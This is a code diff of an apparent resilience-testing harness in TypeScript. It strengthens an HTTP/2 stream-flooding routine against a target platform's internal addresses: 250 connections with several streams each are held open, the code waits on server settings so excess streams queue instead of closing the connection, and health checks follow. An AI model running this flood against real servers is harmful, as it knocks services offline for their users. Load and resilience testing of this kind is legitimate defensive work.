@@ -91,7 +91,7 @@ async function healthWatches(platform: AttackTarget) {
   };
   const ends = await Promise.all(
     platform.internal.map((address) =>
-      openStreams(`http://${address}`, 2, headers, Buffer.alloc(5)),
+      openStreams(`http://${address}`, 250, headers, Buffer.alloc(5), 4),
     ),
   );
   for (const address of platform.internal) await checkHealth(address);
@@ -141,12 +141,13 @@ async function openStreams(
   connections: number,
   headers: Readonly<Record<string, string>>,
   body?: Buffer,
+  streams = PER_CONNECTION,
 ): Promise<() => Promise<void>> {
   const sessions: ClientHttp2Session[] = [];
   for (let connection = 0; connection < connections; connection += 1) {
     const session = await opened(url);
     sessions.push(session);
-    for (let count = 0; count < PER_CONNECTION; count += 1) {
+    for (let count = 0; count < streams; count += 1) {
       const stream = session.request(headers, { endStream: false });
       stream.on('error', () => undefined);
       stream.resume();
@@ -247,15 +248,16 @@ async function runWith(platform: AttackTarget, model: string) {
 async function opened(url: string): Promise<ClientHttp2Session> {
   const session = connect(url);
   session.on('error', () => undefined);
-  await once(session, 'connect');
+  // Streams over the limit of the server then wait, instead of ending the connection.
+  await once(session, 'remoteSettings');
   return session;
 }
 
 /** Resolves when the server has answered a ping, or has closed the connection. */
 async function received(session: ClientHttp2Session): Promise<void> {
   if (session.destroyed) return;
-  await new Promise<void>((resolve) => {
-    session.once('close', () => resolve());
-    session.ping(() => resolve());
-  });
+  const answered = new AbortController();
+  const closed = once(session, 'close', { signal: answered.signal }).catch(() => undefined);
+  await Promise.race([closed, new Promise<void>((resolve) => session.ping(() => resolve()))]);
+  answered.abort();
 }
